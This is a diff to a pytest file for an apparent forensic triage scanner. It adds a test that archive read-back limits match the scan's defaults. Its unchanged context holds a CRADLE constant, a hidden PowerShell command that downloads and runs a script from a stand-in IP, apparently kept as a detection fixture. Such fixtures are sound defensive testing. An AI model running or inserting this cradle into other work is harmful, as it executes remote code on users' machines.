@@ -11,6 +11,9 @@ from pathlib import Path
 
 import pytest
 
+from cybertriage.analyzers.archive import container_limits
+from cybertriage.analyzers.base import Settings
+from cybertriage.evidence.containers import ContainerLimits
 from tests.conftest import export, run_cli
 
 CRADLE = "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\"\r\n"
@@ -131,3 +134,8 @@ def test_random_data_is_not_called_an_executable(tmp_path: Path) -> None:
     case = tmp_path / "case"
     assert run_cli("scan", folder, "--case", case, "--quiet", "--no-yara").code == 0
     assert not [f for f in export(case, "findings") if f["analyzer"] == "filetype"]
+
+
+def test_reading_back_applies_the_scan_s_archive_limits() -> None:
+    """A case's objects are read back (case/objects.py) within ContainerLimits' defaults: the scan's own."""
+    assert container_limits(Settings()) == ContainerLimits()
